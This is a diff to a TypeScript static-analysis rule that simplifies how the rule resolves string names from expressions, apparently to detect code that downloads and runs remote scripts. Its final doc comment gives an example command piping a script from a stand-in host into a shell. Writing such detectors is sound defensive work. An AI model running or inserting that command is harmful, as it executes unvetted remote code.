@@ -1,7 +1,7 @@
 import type { FileFacts } from "#core/facts/file-facts";
 import { possibleConstants } from "#core/facts/possible-constants";
 import { defineSyntaxRule, type SyntaxRuleContext } from "#core/rule/rule";
-import { type Expression, isElementAccess, isIdentifier, isPropertyAssignment, skipWrappers } from "#core/syntax/nodes";
+import type { Expression } from "#core/syntax/nodes";
 import { knownAddresses, schemeSpan } from "#core/transport/address";
 import { hostPlace } from "#core/transport/host";
 
@@ -61,12 +61,9 @@ function fileOf(facts: FileFacts, value: Expression): string | undefined {
   return text?.replace(/[?#].*$/, "").split("/").at(-1);
 }
 
-/** The names that a table has for what is asked for: `files[process.platform]`. */
+/** The names that an expression may be, such as those of a table: `files[process.platform]`. */
 function writtenNames(facts: FileFacts, name: Expression): readonly string[] {
-  const bare = skipWrappers(name);
-  const definition = isIdentifier(bare) ? skipWrappers(facts.definitionOf(bare) ?? bare) : bare;
-  const values = isElementAccess(definition) ? (facts.objectOf(definition.expression)?.properties ?? []).flatMap((property) => (isPropertyAssignment(property) ? [property.initializer] : [])) : [definition];
-  return values.flatMap((value) => possibleConstants(facts, value)).flatMap(({ value }) => (typeof value === "string" ? [value] : []));
+  return possibleConstants(facts, name).flatMap(({ value }) => (typeof value === "string" ? [value] : []));
 }
 
 /** `exec("curl http://get.example.com/install.sh | sh")`. */
